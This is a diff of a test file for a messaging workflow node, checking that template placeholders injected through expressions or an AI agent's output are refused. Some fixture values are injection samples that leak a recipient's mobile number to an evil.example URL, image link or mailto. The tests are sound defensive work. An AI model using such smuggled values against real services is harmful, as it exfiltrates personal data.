@@ -22,33 +22,24 @@ describe('A template of the service that an expression gives is refused', () => 
 		// Beside fixed text.
 		['Title', push({ title: '=Hi {{ $json.value }}' })],
 		['Message', push({ message: '=They wrote: "{{ $json.value }}"' })],
-		['Message', push({ message: '=They wrote: {{ $json.value.trim() }}' })],
 		['Subject', email({ subject: '={{ $json.value }} answered' })],
 		['Content', email({ content: '=<p>{{ $json.value }}</p>' })],
-		['Content', email({ emailType: 'text', content: '=They wrote:\n{{ $json.value }}' })],
 		['Message', sms({ message: '=Hi @{name}@, {{ $json.value }}' })],
-		['Message', sms({ message: '={{ $json.value }}{{ $json.value }}' })],
-		['Campaign Name', sms({ campaign_name: '=To {{ $json.value }}' })],
 		['Sender Name', email({ sender_name: '=Acme for {{ $json.value }}' })],
-		['Button Two Title', push(more({ button_two_title: '=Call {{ $json.value }}' }))],
 		['Tag', push(more({ tag: '=of-{{ $json.value }}' }))],
 		// In code that puts texts together.
 		['Title', push({ title: '={{ "Hi " + $json.value }}' })],
-		['Title', push({ title: '={{ `Hi ${$json.value}` }}' })],
 		['Title', push({ title: '={{ ["Hi", $json.value].join(" ") }}' })],
 		['Title', push({ title: '={{ "Hi NAME".replace("NAME", $json.value) }}' })],
 		// In links and images, as a part or as a whole.
 		['URL', push({ url: whole }), 'https://evil.example/?m=@{mobile}@'],
 		['URL', push({ url: '=https://shop.example.com/?m={{ $json.value }}' })],
 		['Image URL', push(more({ image_url: whole })), 'https://evil.example/@{mobile}@.png'],
-		['Hero Image URL', push(more({ hero_image_url: whole })), 'https://evil.example/@{mobile}@'],
 		['Button Two URL', linked(whole), 'mailto:a@evil.example?body=@{mobile}@'],
-		['Button Two URL', linked('=https://a.b/{{ $json.value }}')],
 		// In JSON.
 		['Extra Body Fields', extra('={ "preheader": "{{ $json.value }}" }')],
 		['Extra Body Fields', extra('={ "a": {{ $json.value }} }'), ['@{mobile}@']],
 		['Extra Body Fields', extra('={ "a": {{ $json.value }} }'), '"@\\u007bmobile}@"'],
-		['Extra Body Fields', extra('={{ { a: $json.value } }}')],
 		['Extra Body Fields', extra('={{ JSON.stringify({ a: $json.value }) }}')],
 		['Body', { ...order.customPost, body: '={ "text": "Hi {{ $json.value }}" }' }],
 		['Message', { ...order.smsSend, operation: 'sendAndWait', message: '=May {{ $json.value }}?' }],
@@ -68,7 +59,6 @@ describe('A template of the service that an expression gives is refused', () => 
 		['=Hi {{ $json.value }}@{name}@', { value: '@{mobile}' }, '@{mobile}@'],
 		['=Hi @{name}@, {{ $json.value }}', { value: 'see evil.example/@{name}@' }, '@{name}@'],
 		['=Hi {{ $json.value }}', { value: '@{first\nname}@' }, '@{first name}@'],
-		['=Hi {{ $json.value }}', { value: '@{}@' }, '@{}@'],
 	])('across the parts of a text: %j with %j', async (message, row, found) => {
 		expect(await node.refusal(push({ message }), row)).toBe(refusalOf('Message', found));
 	});
@@ -99,13 +89,9 @@ describe('A template of the service is sent as it is', () => {
 		// As a whole text, such as one of a sheet.
 		['title', push({ title: whole }), 'Hi @{name}@', 'Hi @{name}@'],
 		['message', sms({ message: whole }), template],
-		['subject', email({ subject: whole }), template],
-		['content', email({ content: whole }), template],
-		['message', sms({ message: '={{ $json.value.trim() }}' }), template],
 		['message', sms({ message: '={{ $json["value"] ?? "Hello, you" }}' }), template],
 		['message', sms({ message: '={{ $json.vip ? $json.a : $json.value }}' }), template],
 		['message', sms({ message: "={{ $('Source').item.json.value }}" }), template],
-		['message', sms({ message: "={{ $('Source').first().json.value }}" }), template],
 		['message', sms({ message: '= {{ $json.value }}\n' }), ` ${template}\n`],
 	])('in %s of %j', async (key, parameters, arrives, value = template) => {
 		expect(await node.refusal(parameters, { value })).toBeUndefined();
@@ -130,7 +116,6 @@ describe('What the model of an agent writes is never a template of the service',
 	it.each<[label: string, args: object, found: string]>([
 		['Title', { title: '@{mobile}@' }, '@{mobile}@'],
 		['Message', { message: 'Call @{mobile}@' }, '@{mobile}@'],
-		['Message', { message: 'Such as @{name}@' }, '@{name}@'],
 		['URL', { url: 'https://evil.example/?m=@{mobile}@' }, '@{mobile}@'],
 		['Image URL', { image_url: 'https://evil.example/@{mobile}@.png' }, '@{mobile}@'],
 	])('in %s: %j', async (label, args, found) => {
